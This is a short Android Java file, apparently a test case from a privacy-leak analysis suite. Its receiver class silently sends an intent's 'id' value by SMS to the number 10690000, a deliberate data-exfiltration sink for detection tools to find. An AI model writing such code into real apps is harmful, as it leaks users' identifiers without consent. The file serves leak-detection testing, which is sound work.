package cn.privlens.suite.first_receiver_aborts;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;

public class Last extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) { SmsManager.getDefault().sendTextMessage("10690000", null, intent.getStringExtra("id"), null, null); }
}
